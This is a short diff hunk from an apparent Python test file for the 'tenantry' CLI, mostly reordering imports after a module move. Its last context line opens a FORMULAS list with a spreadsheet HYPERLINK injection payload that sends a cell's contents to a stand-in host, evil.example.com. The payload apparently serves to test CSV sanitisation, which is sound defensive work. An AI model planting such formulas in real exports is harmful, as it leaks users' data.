@@ -16,13 +16,13 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from tenantry.apply.manifests import Source
+from tenantry.apply.plan import ABSENT, Action, Change
 from tenantry.cli import compliance, get, output
 from tenantry.cli.apply import _action_lines
 from tenantry.cli.audit import _tail_line
 from tenantry.cli.sanitize import for_csv, for_rich, for_terminal
-from tenantry.manifests import Source
-from tenantry.plan import ABSENT, Action, Change
-from tenantry.results import Cluster, StorageIntegration
+from tenantry.sdk.results import Cluster, StorageIntegration
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example.com/?"&A1,"click")',
